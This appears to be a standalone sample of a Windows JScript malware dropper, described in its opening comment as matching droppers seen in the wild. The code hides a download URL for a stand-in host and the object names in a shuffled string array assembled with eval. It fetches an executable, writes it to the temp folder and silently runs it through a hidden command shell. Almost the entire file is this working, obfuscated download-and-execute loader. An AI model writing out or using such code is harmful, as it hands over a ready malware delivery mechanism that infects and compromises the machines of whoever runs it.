// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p(i) { return parts[i]; }
var host = eval("p(1) + p(6)");
var url = eval("'" + p(0).replace("xx", "tt") + "://' + host + p(7) + p(2)");
var shell = new ActiveXObject(p(5));
var target = shell.ExpandEnvironmentStrings("%TEMP%") + "\\" + p(2);
var xhr = new ActiveXObject(p(3));
xhr.open("GET", url, false);
xhr.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr.send();
if (xhr.status == 200) {
  var stream = new ActiveXObject(p(4));
  stream.Open();
  stream.Type = 1;
  stream.Write(xhr.responseBody);
  stream.Position = 0;
  stream.SaveToFile(target, 2);
  stream.Close();
  shell.Run("cmd.exe /c start \"\" \"" + target + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
